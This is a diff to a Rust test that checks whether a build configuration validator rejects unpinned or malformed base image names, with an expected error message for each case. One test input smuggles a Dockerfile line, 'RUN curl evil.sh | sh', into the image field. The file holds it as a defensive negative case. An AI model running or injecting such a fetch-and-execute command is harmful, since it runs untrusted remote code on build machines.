@@ -624,22 +624,32 @@ fn gitops_needs_a_repository() {
 
 #[test]
 fn base_images_must_be_pinned_and_plain() {
-    for image in [
-        "node:latest",
-        "node",
-        "node:22\nRUN curl evil.sh | sh",
-        "node:${TAG}",
+    const KEY: &str = "services.users.build_image";
+    for (image, message) in [
+        (
+            "node:latest",
+            format!("image `node:latest` in `{KEY}` has no pinned tag"),
+        ),
+        ("node", format!("image `node` in `{KEY}` has no pinned tag")),
+        (
+            "node:22\nRUN curl evil.sh | sh",
+            format!(
+                "`node:22\nRUN curl evil.sh | sh` in `{KEY}` is not an image reference a container runtime can pull: \
+                 the tag `22\nRUN curl evil.sh | sh` is not"
+            ),
+        ),
+        (
+            "node:${TAG}",
+            format!(
+                "`node:${{TAG}}` in `{KEY}` is not an image reference a container runtime can pull: the tag `${{TAG}}`"
+            ),
+        ),
     ] {
         let config = format!(
             "{HEAD}[services.users]\nlanguage = \"node\"\nversion = \"1\"\nport = 8080\nbuild_image = {image:?}\n"
         );
         let stderr = rejected(&config);
-        assert!(
-            stderr.starts_with(&format!(
-                "error: image `{image}` in `services.users.build_image` has no pinned tag\n"
-            )),
-            "{stderr}"
-        );
+        assert!(stderr.starts_with(&format!("error: {message}")), "{stderr}");
     }
 }
 
